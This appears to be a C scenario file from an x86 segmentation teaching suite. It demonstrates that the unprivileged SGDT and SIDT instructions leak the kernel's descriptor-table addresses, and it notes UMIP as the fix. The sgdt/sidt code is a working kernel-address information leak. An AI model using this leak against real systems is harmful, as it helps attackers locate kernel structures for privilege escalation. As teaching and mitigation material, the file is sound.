/* ATTACK tables_told: SGDT and SIDT tell ring 3 where the kernel's tables lie
 * SLIDE 9 Actual solutions with constrained segmentation
 * MECHANISM two instructions that need no rights store linear addresses of the kernel. An attacker who
 *          can write somewhere now knows where.
 * STOPPED CR4.UMIP, where the processor has it. No segment helps: the registers hold linear addresses,
 *          in split too.
 * HISTORY the 286 already let everybody ask. Linux has set UMIP since 4.15 (2018), and answers a 32-bit
 *          program's SGDT and SIDT with false values (arch/x86/kernel/umip.c).
 * VULNERABLE split,flat,fenced/all kernel-leak  the GDT's linear address, and the IDT's
 * REPAIRED split,flat,fenced/all killed #GP if umip  not for ring 3
 */
#include "lib/scenario.h"

struct table_register {
	unsigned short limit;
	unsigned int linear;
} __attribute__((packed));

int scenario(void)
{
	struct table_register gdtr, idtr;
	unsigned int words[2];

	attack(ATTACK_TABLES, 0, 0);
	demo(DEMO_CLAIM_NONE, 0, 0, 0);
	__asm__ volatile("sgdt %0; sidt %1" : "=m"(gdtr), "=m"(idtr));
	words[0] = gdtr.linear;
	words[1] = idtr.linear;
	demo(DEMO_TOLD, (long)words, sizeof(words), 0);
	demo(DEMO_RESULT, 0, 0, 0);
	return 0;
}
